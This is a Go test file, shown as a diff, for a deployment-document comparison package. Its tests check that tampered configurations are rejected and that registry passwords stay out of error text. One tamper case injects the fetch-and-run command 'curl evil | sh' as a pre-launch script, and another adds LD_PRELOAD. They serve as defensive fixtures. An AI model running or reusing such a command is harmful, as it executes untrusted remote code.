@@ -1,0 +1,157 @@
+package compose_test
+
+import (
+	"encoding/json"
+	"maps"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/phala-go/phala/compose"
+)
+
+// document is a document as a map, changed as the test needs it.
+func document(t testing.TB, base string, change map[string]any) []byte {
+	t.Helper()
+	var doc map[string]any
+	require.NoError(t, json.Unmarshal([]byte(base), &doc))
+	for name, value := range change {
+		if value == absent {
+			delete(doc, name)
+			continue
+		}
+		doc[name] = value
+	}
+	text, err := json.Marshal(doc)
+	require.NoError(t, err)
+	return text
+}
+
+type absence struct{}
+
+var absent = absence{}
+
+const (
+	sentDocument = `{"name":"","docker_compose_file":"services: {web: {image: nginx}}","allowed_envs":["A"],"public_logs":false}`
+	ranDocument  = `{"manifest_version":2,"name":"","runner":"docker-compose","docker_compose_file":"services: {web: {image: nginx}}",` +
+		`"allowed_envs":["A"],"features":["kms","tproxy-net"],"kms_enabled":true,"gateway_enabled":true,"tproxy_enabled":true,` +
+		`"local_key_provider_enabled":false,"no_instance_id":false,"public_logs":false,"public_sysinfo":true,"public_tcbinfo":true,` +
+		`"secure_time":false,"storage_fs":"zfs"}`
+)
+
+func TestCompareCompleted_PlatformDefaults(t *testing.T) {
+	t.Parallel()
+	for name, tt := range map[string]struct{ sent, ran map[string]any }{
+		"all defaults":         {nil, nil},
+		"another layout":       {map[string]any{"storage_fs": "zfs"}, nil},
+		"null was sent":        {map[string]any{"storage_fs": nil, "bash_script": nil}, nil},
+		"null in both":         {map[string]any{"init_script": nil}, map[string]any{"init_script": nil}},
+		"null defaults":        {nil, map[string]any{"bash_script": nil, "default_gateway_domain": nil, "init_script": nil, "salt": nil}},
+		"unknown member kept":  {map[string]any{"x": map[string]any{"b": 1, "a": []any{nil}}}, map[string]any{"x": map[string]any{"a": []any{nil}, "b": 1}}},
+		"no gateway":           {map[string]any{"gateway_enabled": false}, map[string]any{"gateway_enabled": false, "tproxy_enabled": false}},
+		"fewer defaults added": {nil, map[string]any{"storage_fs": absent, "features": absent}},
+	} {
+		c, err := compose.CompareCompleted(document(t, sentDocument, tt.sent), document(t, ranDocument, tt.ran))
+		require.NoError(t, err, name)
+		assert.Nil(t, c.PreLaunch, name)
+	}
+	c, err := compose.CompareCompleted([]byte(sentDocument), []byte(ranDocument))
+	require.NoError(t, err)
+	assert.Equal(t, []string{"features", "gateway_enabled", "kms_enabled", "local_key_provider_enabled", "manifest_version", "no_instance_id",
+		"public_sysinfo", "public_tcbinfo", "runner", "secure_time", "storage_fs", "tproxy_enabled"}, c.Added)
+}
+
+func TestCompareCompleted_Refuses(t *testing.T) {
+	t.Parallel()
+	long := strings.Repeat("x", 5000)
+	for name, tt := range map[string]struct {
+		sent, ran map[string]any
+		path      string
+		shown     []string // in the error
+	}{
+		"changed text":            {nil, map[string]any{"docker_compose_file": "services: {web: {image: evil}}"}, "$.docker_compose_file", []string{"nginx", "evil"}},
+		"changed flag":            {nil, map[string]any{"public_logs": true}, "$.public_logs", []string{`"false"`, `"true"`}},
+		"missing member":          {nil, map[string]any{"allowed_envs": absent}, "$.allowed_envs", []string{"A", "ran nothing"}},
+		"more variables":          {nil, map[string]any{"allowed_envs": []string{"A", "LD_PRELOAD"}}, "$.allowed_envs[1]", []string{"LD_PRELOAD", "sent nothing"}},
+		"order of variables":      {map[string]any{"allowed_envs": []string{"A", "B"}}, map[string]any{"allowed_envs": []string{"B", "A"}}, "$.allowed_envs[0]", nil},
+		"null for a value":        {nil, map[string]any{"public_logs": nil}, "$.public_logs", []string{"null"}},
+		"other default":           {nil, map[string]any{"storage_fs": "ext4"}, "$.storage_fs", []string{"ext4", "zfs"}},
+		"default of another type": {nil, map[string]any{"manifest_version": "2"}, "$.manifest_version", nil},
+		"text for null":           {map[string]any{"storage_fs": nil}, map[string]any{"storage_fs": "ext4"}, "$.storage_fs", nil},
+		"added script":            {nil, map[string]any{"pre_launch_script": "curl evil | sh"}, "$.pre_launch_script", []string{"54779f601e7b13ff"}},
+		"added script null":       {nil, map[string]any{"pre_launch_script": nil}, "$.pre_launch_script", nil},
+		"added init script":       {nil, map[string]any{"init_script": "evil"}, "$.init_script", []string{"evil"}},
+		"added unknown member":    {nil, map[string]any{"x": 1}, "$.x", nil},
+		"other case":              {nil, map[string]any{"Public_Logs": true}, "$.Public_Logs", nil},
+		"emptied script":          {map[string]any{"pre_launch_script": ""}, map[string]any{"pre_launch_script": "x"}, "$.pre_launch_script", nil},
+		"gateway by another name": {map[string]any{"gateway_enabled": false}, map[string]any{"gateway_enabled": false}, "$.tproxy_enabled", []string{"false"}},
+		"nested":                  {map[string]any{"p": map[string]any{"a": []any{map[string]any{"q r": 1}}}}, map[string]any{"p": map[string]any{"a": []any{map[string]any{"q r": 2}}}}, `$.p.a[0]["q r"]`, nil},
+		"nested and added":        {map[string]any{"p": map[string]any{}}, map[string]any{"p": map[string]any{"restrict_mode": false}}, "$.p.restrict_mode", nil},
+		"long":                    {map[string]any{"pre_launch_script": long + "good"}, map[string]any{"pre_launch_script": long + "evil"}, "$.pre_launch_script", []string{"good", "evil"}},
+	} {
+		_, err := compose.CompareCompleted(document(t, sentDocument, tt.sent), document(t, ranDocument, tt.ran))
+		var differs *compose.CompletionError
+		require.ErrorAs(t, err, &differs, name)
+		assert.Equal(t, tt.path, differs.Path, name)
+		assert.Less(t, len(err.Error()), 1000, name)
+		for _, part := range tt.shown {
+			assert.Contains(t, err.Error(), part, name)
+		}
+	}
+}
+
+func TestCompareCompleted_DockerConfigIsNotShown(t *testing.T) {
+	t.Parallel()
+	sent := document(t, sentDocument, map[string]any{"docker_config": map[string]any{"password": "hunter2"}})
+	ran := document(t, ranDocument, map[string]any{"docker_config": map[string]any{"password": "hunter3"}})
+	for _, other := range [][]byte{ran, []byte(ranDocument)} {
+		_, err := compose.CompareCompleted(sent, other)
+		require.ErrorContains(t, err, "$.docker_config")
+		assert.NotContains(t, err.Error(), "hunter")
+	}
+	_, err := compose.CompareCompleted([]byte(sentDocument), ran)
+	require.ErrorContains(t, err, "$.docker_config")
+	assert.NotContains(t, err.Error(), "hunter")
+}
+
+func TestCompareCompleted_NeedsCanonicalForms(t *testing.T) {
+	t.Parallel()
+	_, err := compose.CompareCompleted([]byte(sentDocument), []byte(`{"name":"","name":"x"}`))
+	require.ErrorContains(t, err, "document that ran")
+	_, err = compose.CompareCompleted([]byte(`[]`), []byte(ranDocument))
+	require.ErrorContains(t, err, "document that was sent")
+}
+
+func TestPreLaunchScripts(t *testing.T) {
+	t.Parallel()
+	all := compose.PreLaunchScripts()
+	require.NotEmpty(t, all)
+	seen := map[string]bool{}
+	for _, script := range all {
+		require.Len(t, script.SHA256, 64)
+		require.False(t, seen[script.SHA256], script.SHA256)
+		seen[script.SHA256] = true
+		for _, form := range []string{script.SHA256, "0x" + strings.ToUpper(script.SHA256)} {
+			found, ok := compose.LookupPreLaunchHash(form)
+			require.True(t, ok, form)
+			assert.Equal(t, script, found)
+		}
+	}
+	latest := all[len(all)-1]
+	assert.Equal(t, "0.0.19", latest.Version)
+	_, known := compose.LookupPreLaunch("#!/bin/bash\n")
+	assert.False(t, known)
+	_, known = compose.LookupPreLaunchHash("")
+	assert.False(t, known)
+}
+
+func TestEnvFromMap(t *testing.T) {
+	t.Parallel()
+	values := map[string]string{"B": "2", "A": "1", "_": "0"}
+	env := compose.EnvFromMap(values)
+	require.True(t, slices.Equal(env, []compose.EnvVar{{"A", "1"}, {"B", "2"}, {"_", "0"}}))
+	assert.NotNil(t, compose.EnvFromMap(maps.Clone(map[string]string{})))
+}
